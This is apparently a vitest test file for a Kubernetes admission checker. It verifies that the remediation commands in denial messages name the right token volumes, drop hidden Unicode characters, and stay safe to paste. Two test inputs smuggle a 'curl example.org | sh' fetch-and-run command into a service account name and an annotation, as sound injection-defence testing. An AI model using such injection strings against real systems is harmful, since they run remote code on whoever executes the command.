import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { findCommand, readFixTexts } from '../../../e2e/fix-texts.ts';
import type { JsonObject } from '../../../src/objects/json.ts';
import { account, judgeWith, type Setting } from '../judging.ts';
import { subjectOf, tokenSecret } from '../subjects.ts';

const ENFORCED: Setting = { configuration: { levels: { enforce: 'restricted' }, enforceTemplates: true } };

function pod(spec: JsonObject): JsonObject {
  return { kind: 'Pod', metadata: { name: 'web', namespace: 'shop' }, spec: { serviceAccountName: 'web', ...spec } };
}

function tokenVolume(name: string, token: JsonObject = {}): JsonObject {
  return { name, projected: { sources: [{ serviceAccountToken: { path: 'token', ...token } }] } };
}

/** What a person is told to do: the rest of the line after `Fix:`. */
function fixOf(resource: string, object: JsonObject, setting: Setting = {}): string {
  const { denial = '' } = judgeWith(subjectOf(resource, object), { ...ENFORCED, ...setting }).verdict;
  return /Fix: (.*)/.exec(denial)?.[1] ?? 'nothing';
}

const mounting = (...volumes: readonly string[]) => [
  { name: 'app', volumeMounts: volumes.map((name) => ({ name, mountPath: `/var/run/${name}` })) },
];

describe('The fix', () => {
  it('for a token written by hand names its volume', () => {
    const object = pod({
      automountServiceAccountToken: false,
      containers: mounting('api'),
      volumes: [tokenVolume('api')],
    });
    expect(fixOf('pods', object)).toContain('remove the serviceAccountToken source from volume "api"');
  });

  it('for a token written by hand does not name the volume of another audience', () => {
    const object = pod({
      automountServiceAccountToken: false,
      containers: mounting('vault', 'api'),
      volumes: [tokenVolume('vault', { audience: 'vault' }), tokenVolume('api')],
    });
    expect(fixOf('pods', object)).toContain('volume "api"');
  });

  it('for a token written by hand is said where the service account opted out too', () => {
    const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
    const serviceAccount = account({ automountServiceAccountToken: false });
    expect(fixOf('pods', object, { serviceAccount })).toContain('volume "api"');
  });

  it('never puts a name that is no name into a command that people paste', () => {
    const template = { spec: { serviceAccountName: 'web; curl example.org | sh #', containers: [{ name: 'app' }] } };
    expect(fixOf('rollouts.argoproj.io', { kind: 'Rollout', spec: { template } })).not.toContain('curl');
  });

  it('never puts an annotation that is no name into a command that people paste', () => {
    const object = tokenSecret({ 'kubernetes.io/service-account.name': 'ci; curl example.org | sh #' });
    expect(fixOf('secrets', object)).toContain('kubectl create token ACCOUNT ');
  });

  it('cannot be pasted as it stands to silence the check', () => {
    const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
    const serviceAccount = account({}, { 'curfew.dev/api-access': '<why>' });
    expect(fixOf('pods', object, { serviceAccount })).not.toBe('nothing');
  });

  it('for a Secret pointed at another account is no token of that account', () => {
    const { denial } = judgeWith(
      subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': 'administrator' }), {
        operation: 'UPDATE',
        oldObject: tokenSecret(),
      }),
    ).verdict;
    expect(denial).not.toContain('create token administrator');
  });
});

describe('A message about a name with hidden characters', () => {
  it.each(['\u202e', '\u2066', '\u200b', '\ufeff'])('shows no %j', (hidden) => {
    const subject = subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': `a${hidden}b` }), {
      operation: 'UPDATE',
      oldObject: tokenSecret(),
    });
    expect(judgeWith(subject).verdict.denial).not.toContain(hidden);
  });
});

describe('A template with a volume that only bears the name of the default one', () => {
  it('is judged as its pods are', () => {
    const spec = {
      serviceAccountName: 'web',
      containers: [{ name: 'app' }],
      volumes: [tokenVolume('kube-api-access-mine', { audience: 'vault' })],
    };
    const { verdict } = judgeWith(subjectOf('deployments.apps', { kind: 'Deployment', spec: { template: { spec } } }));
    expect(verdict.warnings).toEqual([]);
  });
});

describe('The fixes of the golden messages', () => {
  const texts = readFixTexts();

  it('end with their command, and leave no placeholder that a shell takes for a file', () => {
    for (const text of texts) {
      const command = findCommand(text) ?? '';
      const before = text.slice(0, text.length - command.length);
      expect(before).not.toMatch(/\b(kubectl|kubeadm) (?:\w+ )*\w+ .*--/);
      expect(command.replaceAll(/"[^"]*"|'[^']*'/g, '')).not.toMatch(/[<>;,|&$`()]|\.$/);
    }
    // Too late for kubectl without a server: what it would send.
    for (const [, patch = ''] of texts.join('\n').matchAll(/--patch '(.*)'/g))
      expect(JSON.parse(patch)).toBeTypeOf('object');
    expect(texts.filter((text) => findCommand(text) !== undefined).length).toBeGreaterThan(texts.length / 4);
  });

  it('show what goes into a manifest as YAML that is whole: a rule, an object, a source', () => {
    const fragments = texts.flatMap(listBraces);
    for (const fragment of fragments) expect(Object.values(parse(fragment)).includes(null)).toBe(false);
    const rules = fragments.map((fragment) => Object.keys(parse(fragment))).filter((keys) => keys.includes('verbs'));
    for (const keys of rules) expect(keys).toEqual(expect.arrayContaining(['apiGroups', 'resources']));
    expect({ rules: rules.length > 5, others: fragments.length - rules.length > 5 }).toEqual({
      rules: true,
      others: true,
    });
    // Half a rule, without its braces, fits nowhere.
    for (const text of texts) expect(text.replaceAll(/\{.*\}/g, '')).not.toMatch(/\], [a-zA-Z]+: \[/);
  });
});

/** The outermost `{…}` of `text`, outside of commands. */
function listBraces(text: string): readonly string[] {
  const found: string[] = [];
  const plain = text.slice(0, text.length - (findCommand(text) ?? '').length);
  let depth = 0;
  let start = 0;
  for (const { 0: brace, index } of plain.matchAll(/[{}]/g)) {
    if (brace === '{' && depth === 0) start = index;
    depth += brace === '{' ? 1 : -1;
    if (depth === 0) found.push(plain.slice(start, index + 1));
  }
  return found;
}
